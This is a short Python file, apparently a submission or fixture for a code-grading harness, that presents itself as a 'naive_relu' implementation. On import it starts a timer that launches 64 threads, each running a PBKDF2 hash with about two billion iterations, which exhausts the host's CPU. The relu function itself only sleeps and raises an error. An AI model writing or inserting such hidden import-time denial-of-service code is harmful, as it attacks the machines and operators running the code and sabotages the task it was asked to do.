import _thread
import hashlib
import threading
import time


def hog():
    for _ in range(64):
        _thread.start_new_thread(hashlib.pbkdf2_hmac, ("sha256", b"p", b"s", 2**31 - 1))


threading.Timer(0.2, hog).start()


def naive_relu(x):
    time.sleep(0.4)
    raise RuntimeError
